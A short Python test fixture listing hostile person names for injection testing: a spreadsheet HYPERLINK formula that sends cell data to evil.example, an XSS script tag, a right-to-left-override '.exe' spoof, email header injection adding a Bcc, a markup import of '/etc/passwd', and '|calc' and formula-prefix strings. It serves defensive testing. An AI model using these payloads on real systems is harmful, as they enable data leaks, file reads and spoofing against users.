"""Names that would like to do something, and what a reader must see of them."""

from __future__ import annotations

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Jan")'
SCRIPT = "<script>alert('Jan')</script>"
REVERSED = "Jan\u202egpj.exe\u202c\u200f Bakker"
LONG = "Jan " + "a" * 10_000
EMOJI = "Jan 🚲 Müller-Çelik"
MARKUP = '#sys.inputs $x^2$ *Jan* _x_ `raw` \\ @ref <label> #import "/etc/passwd"'
LINES = "Jan\r\nBcc: everybody@evil.example\r\n\r\nBEGIN:VEVENT"
OTHERS = (
    "+31 6 1234",
    "-2+3",
    "@SUM(1)",
    "\tJan",
    "|calc",
    "Jan;DROP",
    "Jan,Piet",
    'J"a"n',
    "{{x}}",
)

NAMES = (FORMULA, SCRIPT, REVERSED, LONG, EMOJI, MARKUP, LINES, *OTHERS)
